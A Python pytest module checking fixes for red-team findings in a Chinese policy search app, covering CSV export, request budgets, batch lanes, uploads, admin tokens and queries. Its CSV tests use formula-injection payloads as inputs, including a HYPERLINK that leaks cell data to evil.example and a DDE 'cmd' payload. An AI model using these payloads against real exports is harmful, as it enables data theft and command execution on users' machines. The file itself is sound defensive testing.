"""The red-team findings of issue 11 that the web layer answers, each as it was found.

Real pipeline and store with a fake embedder (uploads, faults), or the fake engine (CSV, lanes).
"""

from __future__ import annotations

import csv
import errno
import io
import threading
import time
import unicodedata

import numpy as np
import pytest

from indexer import pipeline
from indexer.config import Settings
from indexer.pipeline import build_index
from indexer.retrieval import SearchEngine
from indexer.textnorm import has_chinese
from search_app import create_app
from search_app.cli import main as cli_main
from tests.support.admin import admin_app, upload
from tests.support.fakes import FakeEmbedder
from tests.support.fakes_engine import FakeEngine, test_settings

SEED = "一、总体要求\n坚持稳中求进工作总基调，推动经济高质量发展，保持社会大局稳定。\n"
NEW = "关于防汛工作的通知\n各地要做好汛前准备，落实防汛责任制，加强值班值守和隐患排查。\n"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def admin_env(tmp_path):
    return admin_app(tmp_path, SEED)


# ---------------------------------------------------------------- 2. CSV formula injection


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("q", ['=HYPERLINK("http://evil.example/?"&A1,"点我") 发展', "+1+1 发展", "-2 发展",
                               "@SUM(A1) 发展", "\t=1 发展"])
def test_csv_export_neutralises_formula_cells(tmp_path, q):
    passages = [("evil", "=cmd|' /C calc'!A0", ["-标题"], "+国内生产总值 发展 -1", {"year": 2024})]
    client = create_app(test_settings(tmp_path), engine=FakeEngine(test_settings(tmp_path), passages)).test_client()
    resp = client.get("/export.csv", query_string={"q": q, "all": "1"})
    assert resp.status_code == 200
    cells = _cells(resp.get_data(as_text=True))
    assert len(cells) > 10  # header + at least one row
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells


def test_cli_csv_neutralises_formula_cells(tmp_path):
    passages = [("evil", "@evil", ["=x"], "-国内生产总值 发展", {"year": 2024})]
    out, err = io.StringIO(), io.StringIO()
    code = cli_main(["query", "=1+1 发展", "--format", "csv"], stdout=out, stderr=err,
                    open_engine=lambda s: FakeEngine(s, passages))
    assert code == 0, err.getvalue()
    cells = _cells(out.getvalue())
    assert len(cells) > 10 and not [c for c in cells if c.startswith(FORMULA_STARTS)], cells


# ---------------------------------------------------------------- 3. cost isolation


class SlowEmbedder(FakeEmbedder):
    def __init__(self, delay: float):
        super().__init__()
        self.delay = delay

    def encode_queries(self, texts):
        time.sleep(self.delay)
        return super().encode_queries(texts)


def test_a_request_over_its_time_budget_is_504_with_the_reason(tmp_path):
    settings = test_settings(tmp_path, request_budget_s=0.2)
    build_index_from_text(settings)
    client = create_app(settings, engine=SearchEngine(settings, embedder=SlowEmbedder(0.4))).test_client()
    resp = client.get("/api/search?q=高质量发展&mode=dense")
    assert resp.status_code == 504, resp.get_data(as_text=True)
    assert "0.2 s budget" in resp.get_json()["error"] and "POLICY_SEARCH_REQUEST_BUDGET_S" in resp.get_json()["error"]
    assert client.get("/api/search?q=高质量发展&mode=lexical").status_code == 200  # no model: in budget


def build_index_from_text(settings: Settings) -> None:
    folder = settings.index_dir.parent / "docs"
    folder.mkdir(exist_ok=True)
    (folder / "要点.txt").write_text(SEED, encoding="utf-8")
    build_index([folder], settings, embedder=FakeEmbedder())


def test_batch_over_the_queries_times_k_cap_is_refused_before_any_work(tmp_path):
    engine = FakeEngine(test_settings(tmp_path))
    client = create_app(test_settings(tmp_path), engine=engine).test_client()
    resp = client.post("/api/search/batch", json={"queries": ["发展"] * 1000, "k": 100})
    assert resp.status_code == 400 and "POLICY_SEARCH_BATCH_MAX_RESULTS" in resp.get_json()["error"]
    assert not engine.calls
    assert client.post("/api/search/batch", json={"queries": ["发展"] * 50, "k": 100}).status_code == 200


def test_batch_answer_over_the_size_cap_is_refused(tmp_path):
    settings = test_settings(tmp_path, batch_max_response_mb=0)
    client = create_app(settings, engine=FakeEngine(settings)).test_client()
    resp = client.post("/api/search/batch", json={"queries": ["发展"], "k": 5})
    assert resp.status_code == 400 and "POLICY_SEARCH_BATCH_MAX_RESPONSE_MB" in resp.get_json()["error"]


class BlockingEngine(FakeEngine):
    """search_many waits for `release` in the batch lane: shows who runs while a batch is busy."""

    def __init__(self, settings):
        super().__init__(settings)
        self.release, self.entered = threading.Event(), threading.Event()

    def search_many(self, queries, k=10, mode="hybrid", filters=None, options=None):
        if len(queries) > 1:
            self.entered.set()
            self.release.wait(5)
        return super().search_many(queries, k, mode, filters)


def test_batch_lane_has_limited_slots_and_never_blocks_interactive_searches(tmp_path):
    settings = test_settings(tmp_path, batch_slots=1, batch_queue_s=0.2)
    engine = BlockingEngine(settings)
    app = create_app(settings, engine=engine)
    first: dict = {}
    worker = threading.Thread(
        target=lambda: first.update(r=app.test_client().post("/api/search/batch", json={"queries": ["发展", "就业"]}))
    )
    worker.start()
    try:
        assert engine.entered.wait(5)
        client = app.test_client()
        t0 = time.perf_counter()
        assert client.get("/api/search?q=发展").status_code == 200  # interactive: not behind the batch
        assert time.perf_counter() - t0 < 1.0
        second = client.post("/api/search/batch", json={"queries": ["发展", "就业"]})
        assert second.status_code == 503 and second.headers["Retry-After"]
        assert "batch lane" in second.get_json()["error"]
    finally:
        engine.release.set()
        worker.join()
    assert first["r"].status_code == 200


def test_english_queries_use_the_caches_and_a_bounded_sentence_step(tmp_path):
    # An index without stored sentence vectors (as on Milvus): the mark embeds sentences at query time.
    settings = test_settings(tmp_path, sentence_max=4, sentence_vectors="off")
    embedder = FakeEmbedder()
    folder = tmp_path / "docs"
    folder.mkdir()
    long_text = "".join(f"第{i}句说明工作安排。" for i in range(40))
    (folder / "长文.txt").write_text(f"标题\n{long_text}\n", encoding="utf-8")
    build_index([folder], settings, embedder=embedder)
    engine = SearchEngine.open(settings, embedder=embedder)
    embedder.calls.clear()
    engine.search("How is the work arranged?", k=3, mode="dense")
    sentences = sum(n for kind, n in embedder.calls if kind == "passage")
    assert 0 < sentences <= 4  # bounded per query
    embedder.calls.clear()
    engine.search("How is the work arranged?", k=3, mode="dense")
    assert not [c for c in embedder.calls if c[0] == "passage"]  # sentence vectors cached


# ---------------------------------------------------------------- 7, 8. uploads: names and operator faults


@pytest.mark.parametrize("chars", [84, 120])
def test_long_chinese_file_names_upload_replace_and_take_metadata(admin_env, chars):
    settings, client = admin_env
    name = "关" * chars + ".txt"
    first = upload(client, (name, NEW.encode()))
    assert first.status_code == 200, first.get_data(as_text=True)
    stored = first.get_json()["files"][0]["stored_as"]
    assert len(stored.encode("utf-8")) + len(".meta.json") <= 255
    doc_id = first.get_json()["files"][0]["doc_ids"]
    assert doc_id == [stored.removesuffix(".txt")]  # one rule: the stored file's id is the upload's id
    again = upload(client, (name, (NEW + "再次更新。\n").encode()), title="长标题")  # replacement + sidecar
    assert again.status_code == 200, again.get_data(as_text=True)
    assert again.get_json()["files"][0]["doc_ids"] == doc_id
    files = sorted(p.name for p in settings.uploads_dir.iterdir() if not p.name.startswith("."))
    assert files == [stored, stored + ".meta.json"]
    assert not [p for p in settings.uploads_dir.iterdir() if p.name.startswith((".bak", ".part"))]


@pytest.mark.parametrize(
    "code,status,words",
    [(errno.ENOSPC, 507, "disk is full"), (errno.EROFS, 503, "read-only"), (errno.EACCES, 503, "permission denied")],
)
def test_disk_faults_answer_with_their_cause_and_keep_the_index(admin_env, monkeypatch, code, status, words):
    settings, client = admin_env
    before = client.get("/api/documents").get_json()

    def failing(*_a, **_k):
        raise OSError(code, "simulated", str(settings.index_dir / "versions" / ".tmp-x"))

    monkeypatch.setattr(pipeline, "add_documents", failing)
    resp = upload(client, ("通知.txt", NEW.encode()))
    assert resp.status_code == status, resp.get_data(as_text=True)
    assert words in resp.get_json()["error"]
    assert client.get("/api/documents").get_json() == before
    assert not any(settings.uploads_dir.iterdir())


def test_uploads_folder_defaults_under_the_index_folder(tmp_path):
    assert Settings.from_env(env={}, index_dir=tmp_path / "idx").uploads_dir == tmp_path / "idx" / "uploads"
    env = {"POLICY_SEARCH_INDEX_DIR": str(tmp_path / "other")}
    assert Settings.from_env(env=env).uploads_dir == tmp_path / "other" / "uploads"


@pytest.mark.parametrize("first,second", [("foo.txt", "ｆｏｏ.txt"), ("a b.txt", "a-b.txt"),
                                          (unicodedata.normalize("NFD", "é.txt"), "é.txt".upper().lower())])
def test_names_that_normalise_alike_report_the_collision(admin_env, first, second):
    _, client = admin_env
    assert upload(client, (first, NEW.encode())).status_code == 200
    resp = upload(client, (second, (NEW + "另一份。\n").encode()))
    body = resp.get_json()
    assert resp.status_code == 200 and body["warnings"], body
    assert "collision" in body["files"][0] and repr(second) in body["warnings"][0]
    same = upload(client, (second, (NEW + "第三份。\n").encode())).get_json()  # the same name again: no warning
    assert "warnings" not in same


# ---------------------------------------------------------------- 9. non-ASCII admin token


def test_a_non_ascii_admin_token_works_when_sent_as_utf8(tmp_path):
    token = "管理员-令牌-ü"
    settings = test_settings(tmp_path, admin_token=token)
    client = create_app(settings, engine=FakeEngine(settings)).test_client()
    wire = token.encode("utf-8").decode("latin-1")  # what a WSGI server hands over for UTF-8 header bytes
    ok = client.post("/api/reload", headers={"Authorization": f"Bearer {wire}"})
    assert ok.status_code == 200, ok.get_data(as_text=True)
    wrong = "管理员-令牌-x".encode().decode("latin-1")
    assert client.post("/api/reload", headers={"Authorization": f"Bearer {wrong}"}).status_code == 401


# ---------------------------------------------------------------- 10. queries


@pytest.mark.parametrize("q", ["\u200b", "\u200b\u200c\u200d", " \ufeff\u2060 ", "\u200b \u200b"])
def test_a_query_of_only_zero_width_characters_is_empty(client, q):
    resp = client.get("/api/search", query_string={"q": q})
    assert resp.status_code == 400 and "empty" in resp.get_json()["error"]


@pytest.mark.parametrize("ch", ["\u3400", "\U00020bb7", "\U0002a700", "\U0002b740", "\U0002b820", "\U0002ceb0",
                                "\U00030000"])
def test_cjk_extensions_a_to_g_count_as_chinese(ch):
    assert has_chinese(f"{ch}字") and has_chinese(ch)


def test_an_extension_b_query_uses_bm25_and_skips_the_sentence_step(tmp_path):
    settings = test_settings(tmp_path)
    embedder = FakeEmbedder()
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "地名.txt").write_text("标题\n𠮷野家在这里开店。另一句话。\n", encoding="utf-8")
    build_index([folder], settings, embedder=embedder)
    engine = SearchEngine.open(settings, embedder=embedder)
    embedder.calls.clear()
    hits = engine.search("𠮷野", k=3, mode="hybrid").results
    assert hits and not [c for c in embedder.calls if c[0] == "passage"]
    assert engine.hybrid.lexical_weight("𠮷") == settings.lexical_weight
    assert np.isfinite(hits[0].score)
